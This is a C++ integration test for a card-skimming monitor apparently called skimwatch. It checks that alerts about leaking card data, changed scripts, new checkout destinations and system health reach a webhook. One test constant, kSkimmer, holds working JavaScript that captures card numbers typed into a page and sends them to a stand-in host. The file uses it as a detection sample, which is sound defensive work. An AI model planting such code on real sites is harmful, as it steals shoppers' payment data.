#include <signal.h>
#include <unistd.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <memory>
#include <string>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "gtest/gtest.h"
#include "tests/collector/support/test_ca.h"
#include "tests/deploy/program.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/integration/support/log_writer.h"
#include "tests/integration/support/monitoring.h"
#include "tests/integration/support/small_disk.h"
#include "tests/integration/support/web_server.h"

namespace skimwatch::integration {
namespace {

constexpr char kAgent[] = "spiffe://test/agent/web-1";
constexpr char kOperator[] = "spiffe://test/operator";

constexpr char kChat[] = "function chat() { open('/session'); }\n";
constexpr char kSkimmer[] =
    "function chat() { open('/session'); }\n"
    "document.addEventListener('input', e => { const m = e.target.value.match(/[0-9]{13,16}/);\n"
    "  if (m) fetch('https://cdn.example/p?' + btoa(m[0])); });\n";

// One shop with everything that an alert can be about: a log, a web root, copies of requests, a
// small spool, certificates for a day. Alerts that have been are not told again, so each condition
// is made once, in an order in which none hides the next.
class Alerts : public ::testing::Test {
 protected:
  void SetUp() override {
    if (testing::RunTool({"prometheus-alertmanager", "--version"}).exit_code != 0 ||
        testing::RunTool({"jsonnet", "--version"}).exit_code != 0) {
      GTEST_SKIP() << "needs prometheus-alertmanager and jsonnet";
    }
    disk_ = std::make_unique<SmallDisk>(deployment_.root() + "/disk", 64);
    if (!disk_->mounted()) GTEST_SKIP() << "needs the right to mount a small tmpfs";
    std::filesystem::create_directories(deployment_.site_folder() + "/html");
    WriteScript(kChat);
    deployment_.collector_config.mutable_store()->set_path(disk_->path() + "/store.db");
    deployment_.collector_config.mutable_ingest()->set_findings_per_second_per_agent(1000);
    *deployment_.collector_config.mutable_tls() = authority_.Issue("collector");
    deployment_.collector_config.clear_roles();
    deployment_.collector_config.add_roles()->set_identity(kOperator);
    deployment_.collector_config.mutable_roles(0)->set_role("admin");
    deployment_.collector_config.clear_agents();
    deployment_.collector_config.add_agents(kAgent);
    deployment_.agent_tls = authority_.Issue("agent", kAgent);
    deployment_.operator_tls = authority_.Issue("operator", kOperator);
    deployment_.operator_tls->set_server_name("localhost");
    mirror_port_ = FreePort();
    deployment_.agent_yaml =
        absl::StrCat("sources:\n  log_files: [{ paths: [", log_.path(),
                     "], from: start }]\n  web_roots: [{ path: ", deployment_.site_folder(),
                     "/html }]\n  http_mirrors: [{ listen: \"127.0.0.1:", mirror_port_,
                     "\" }]\nlimits: { body_bytes_max: 1024 }\n"
                     "destinations: { learn_days: 0, checkout_processes: [\"*\"] }\n"
                     "spool: { size_mib: 1, segment_mib: 1 }\n"
                     // Where nobody listens.
                     "pages: { browser: { path: none }, checks: [{ name: checkout, url: "
                     "\"http://127.0.0.1:",
                     FreePort(), "/checkout\" }] }\n");
    ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
    ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
    watched_since_ = absl::Now();
    monitoring_ = std::make_unique<Monitoring>(deployment_.collector().metrics_port());
    ASSERT_NO_FATAL_FAILURE(monitoring_->Start());
  }

  void WriteScript(const std::string& text) const {
    const std::string path = deployment_.site_folder() + "/html/chat.js";
    std::ofstream(path + ".new") << text;
    std::filesystem::rename(path + ".new", path);
  }
  void Log(const std::string& line) const {
    std::ofstream(log_.path(), std::ios::app) << line << "\n";
  }

  // The webhook is to be told of `alert`, whose cause is there since `since`.
  void Expect(const std::string& alert, absl::Time since) const {
    const absl::Duration after = monitoring_->AwaitAlert(alert, since);
    EXPECT_LT(after, absl::InfiniteDuration()) << alert << " was not told\n" << monitoring_->Log();
    std::cout << absl::StrFormat("%-36s after %4.1f s\n", alert, absl::ToDoubleSeconds(after));
    RecordProperty(alert + "Milliseconds", static_cast<int>(absl::ToInt64Milliseconds(after)));
  }

  Deployment deployment_;
  testing::TestCa authority_{deployment_.root()};
  LogWriter log_{deployment_.site_folder() + "/app.log"};
  std::unique_ptr<SmallDisk> disk_;
  int mirror_port_ = 0;
  std::unique_ptr<Monitoring> monitoring_;
  absl::Time watched_since_;
};

TEST_F(Alerts, ReachAWebhookWhenWhatTheyAreAboutHappens) {
  // Certificates of this test are valid for a day.
  Expect("CertificateExpiring", watched_since_);
  // A payment page that can't be loaded.
  Expect("PageNotLookedAt", watched_since_);

  absl::Time since = absl::Now();
  Log(absl::StrCat("the card was refused twice today and then ", CardNumber(100'000), " we took"));
  Expect("CardDataSuspected", since);

  since = absl::Now();
  log_.Write(1);
  Expect("CardDataLeaving", since);

  since = absl::Now();
  Log(absl::StrCat(";", CardNumber(100'001), "=28121011234567890?"));
  Expect("SensitiveAuthenticationDataLeaving", since);

  since = absl::Now();
  WriteScript(kSkimmer);
  Expect("UnapprovedScriptOnPaymentPage", since);
  Expect("ScriptChanged", since);

  since = absl::Now();
  Exchange(mirror_port_, Post("sync.chat-helper-cdn.com", "/e", "m=hello",
                              "Referer: https://shop.example/checkout\r\n"));
  Expect("NewCheckoutDestination", since);
  Expect("NewDestination", since);

  // Most of each body is beyond the limit.
  since = absl::Now();
  for (int i = 0; i < 20; ++i) {
    Exchange(mirror_port_, Post("outside.example", "/upload", std::string(100'000, 'x')));
    absl::SleepFor(absl::Milliseconds(200));
  }
  Expect("CoverageLow", since);

  // More than the collector takes in that time, and than the spool has room for.
  since = absl::Now();
  log_.Write(20'000);
  Expect("SpoolFilling", since);
  Expect("FindingsDropped", since);

  since = absl::Now();
  const std::string rest = disk_->path() + "/rest";
  EXPECT_NE(testing::RunTool({"dd", "if=/dev/zero", "of=" + rest, "bs=4096"}).exit_code, 0);
  // More than what the store has room for within its files.
  log_.Write(5000);
  Expect("StoreFailing", since);
  unlink(rest.c_str());

  deployment_.StopAgent(SIGTERM);
  deployment_.agent_yaml += "sampling: { flow_ratio: 0.05 }\n";
  since = absl::Now();
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  Expect("SampleRatioLow", since);

  since = absl::Now();
  deployment_.StopAgent(SIGKILL);
  Expect("AgentSilent", since);

  since = absl::Now();
  deployment_.StopCollector(SIGKILL);
  Expect("CollectorDown", since);
}

}  // namespace
}  // namespace skimwatch::integration
